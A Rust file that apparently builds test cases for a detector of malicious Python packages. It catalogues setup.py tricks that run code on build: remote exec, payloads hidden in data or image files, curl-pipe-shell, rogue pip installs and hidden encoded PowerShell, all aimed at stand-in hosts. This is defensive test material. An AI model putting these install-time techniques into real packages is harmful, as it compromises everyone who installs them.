//! Techniques 5 to 9: `setup.py` leads to code that lies somewhere else.

use crate::case::{Cases, Trigger::Build};
use crate::package::{sdist, setup};

pub(crate) fn add(cases: &mut Cases) {
    helpers(cases);
    shells(cases);
}

/// 5, 6 and 9: the payload lies somewhere else.
fn helpers(cases: &mut Cases) {
    cases
        .technique(5, "setup-imports-payload", Build)
        .case(
            "sibling",
            setup(
                r#"
import os, sys
from setuptools import setup, find_packages
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import _build_helper

_build_helper.prepare()
«setup»
"#,
            )
            .file(
                "_build_helper.py",
                r#"
import os
import urllib.request


def prepare():
    body = urllib.request.urlopen("http://stage.example.invalid/prepare").read()
    exec(compile(body, "prepare", "exec"))
"#,
            ),
        )
        .case(
            "own-package",
            setup(
                r#"
from setuptools import setup, find_packages
from «pkg» import __version__
from «pkg»._compat import check

check()
setup(name="«name»", version=__version__, packages=find_packages())
"#,
            )
            .file("«pkg»/__init__.py", "__version__ = '«version»'\n")
            .file(
                "«pkg»/_compat.py",
                r#"
import base64 as b

def check(flag=True):
    if flag:
        exec(b.b64decode("«beacon|b64»"))
"#,
            ),
        )
        .case(
            "run-path",
            setup(
                r#"
import runpy
from pathlib import Path
from setuptools import setup, find_packages

runpy.run_path(str(Path(__file__).parent / "scripts" / "configure.py"), run_name="__main__")
«setup»
"#,
            )
            .file(
                "scripts/configure.py",
                r#"
import os
if __name__ == "__main__":
    os.system("curl -fsSL http://192.0.2.61/i | sh")
"#,
            ),
        );
    cases
        .technique(5, "setup-imports-payload", Build)
        .case("folder-on-the-path", setup(r#"
import os, sys
from setuptools import setup, find_packages
sys.path.insert(0, os.path.join(os.path.dirname(__file__), "scripts"))
from release_notes import collect
collect()
«setup»
"#).file("scripts/release_notes.py", "import urllib.request\ndef collect():\n    exec(urllib.request.urlopen('https://stage.example.invalid/n').read())\n"))
        .case("everything-imported", setup(r#"
from setuptools import setup, find_packages
from _common import *
prepare(globals())
«setup»
"#).file("_common.py", "import zlib, base64\ndef prepare(names):\n    eval(compile(zlib.decompress(base64.b64decode('«fetch|zlib|b64»')), '', 'exec'), {})\n"))
        .case("text-file", setup(r#"
from setuptools import setup, find_packages
exec(open("docs/notes.txt").read())
«setup»
"#).file("docs/notes.txt", "import os\nos.system('curl -s http://192.0.2.61/n | sh')\n"))
        .case("input-of-an-interpreter", setup(r#"
import base64, subprocess, sys
from setuptools import setup, find_packages
subprocess.Popen([sys.executable, "-"], stdin=subprocess.PIPE).communicate(base64.b64decode("«steal|b64»"))
«setup»
"#));
    cases
        .technique(6, "setup-decodes-data-file", Build)
        .case(
            "base64-text",
            setup(
                r#"
import base64, os
from setuptools import setup, find_packages

here = os.path.dirname(__file__)
with open(os.path.join(here, "LICENSE.dat")) as handle:
    exec(base64.b64decode(handle.read()))
«setup»
"#,
            )
            .file("LICENSE.dat", "«beacon|b64»\n"),
        )
        .case(
            "zlib-bytes",
            setup(
                r#"
import pathlib, zlib
from setuptools import setup, find_packages

blob = pathlib.Path("tests/data/sample.bin").read_bytes()
eval(compile(zlib.decompress(blob[16:]), "sample", "exec"))
«setup»
"#,
            )
            .bytes(
                "tests/data/sample.bin",
                [vec![7; 16], crate::encode::zlib(b"print('inert')")].concat(),
            ),
        )
        .case(
            "xor-image",
            setup(
                r#"
from setuptools import setup, find_packages

def unpack(path, key=0x5a):
    data = open(path, "rb").read()
    return bytes(b ^ key for b in data.split(b"--payload--")[1])

exec(unpack("docs/logo.png"))
«setup»
"#,
            )
            .bytes(
                "docs/logo.png",
                [
                    b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR--payload--".to_vec(),
                    crate::encode::xor(b"print('inert')", &[0x5a]),
                ]
                .concat(),
            ),
        );
    cases
        .technique(9, "setup-installs-more", Build)
        .case("os-system", setup(r#"
import os
from setuptools import setup, find_packages
os.system("pip install --quiet tallgrass-runtime-extra")
«setup»
"#))
        .case("subprocess-other-index", setup(r#"
import subprocess, sys
from setuptools import setup, find_packages
subprocess.check_call([sys.executable, "-m", "pip", "install", "-i",
    "http://index.example.invalid/simple", "--trusted-host", "index.example.invalid", "vellumcase-core"])
«setup»
"#))
        .case("install-then-decrypt", setup(r#"
from setuptools import setup, find_packages
from setuptools.command.install import install
import os

class PostInstallCommand(install):
    def run(self):
        install.run(self)
        os.system('pip install cryptography requests fernet')
        from fernet import Fernet
        import requests
        exec(Fernet(b'1Hf0xdZ7l9mKq3vNwB2sT5yU8pR4eC6aJ0gXzQiLkMo=').decrypt(requests.get('http://192.0.2.71/f').content))

setup(name="«name»", version="«version»", packages=find_packages(), cmdclass={'install': PostInstallCommand})
"#))
        .case("pip-main-address", sdist().file("setup.py", r#"
from setuptools import setup, find_packages
try:
    from pip._internal import main as pipmain
except ImportError:
    from pip import main as pipmain
pipmain(["install", "https://files.example.invalid/pkg-2.0-py3-none-any.whl"])
«setup»
"#));
}

/// 7 and 8: a shell fetches the rest.
fn shells(cases: &mut Cases) {
    cases
        .technique(7, "setup-curl-pipe-shell", Build)
        .case("os-system", setup(r#"
import os
from setuptools import setup, find_packages
os.system("curl -s http://stage.example.invalid/install.sh | bash")
«setup»
"#))
        .case("split-strings", setup(r#"
from setuptools import setup, find_packages
import subprocess as sp
tool, host = "cu" "rl", ".".join(["stage", "example", "invalid"])
command = "%s -fsSL https://%s/i %s sh" % (tool, host, chr(124))
sp.run(command, shell=True, check=False)
«setup»
"#))
        .case("sh-dash-c", setup(r#"
from setuptools import setup, find_packages
from subprocess import Popen, DEVNULL
Popen(["/bin/sh", "-c", "wget -O - 192.0.2.5/a | sh >/dev/null 2>&1 &"], stdout=DEVNULL, stderr=DEVNULL)
«setup»
"#))
        .case("os-popen-process-substitution", setup(r#"
from setuptools import setup, find_packages
import os as _o
getattr(_o, "popen")("bash <(curl -sL http://192.0.2.77/r)").read()
«setup»
"#));
    cases
        .technique(8, "setup-powershell-encoded", Build)
        .case("popen-list", setup(r#"
import subprocess
from setuptools import setup, find_packages
subprocess.Popen(["powershell.exe", "-NoP", "-W", "Hidden", "-enc", "«'Write-Host inert'|utf16|b64»"])
«setup»
"#))
        .case("os-system-startfile", setup(r#"
import os, sys
from setuptools import setup, find_packages
if os.name == 'nt':
    os.system('powershell -WindowStyle Hidden -EncodedCommand cABvAHcAZQByAHMAaABlAGwAbAAgAC0AbgBvAHAA')
«setup»
"#))
        .case("download-string", setup(r#"
from setuptools import setup, find_packages
import subprocess
code = "IEX(New-Object Net.WebClient).DownloadString('http://stage.example.invalid/a.ps1')"
subprocess.run(f'powershell -ExecutionPolicy Bypass -Command "{code}"', shell=True, creationflags=0x08000000)
«setup»
"#));
}
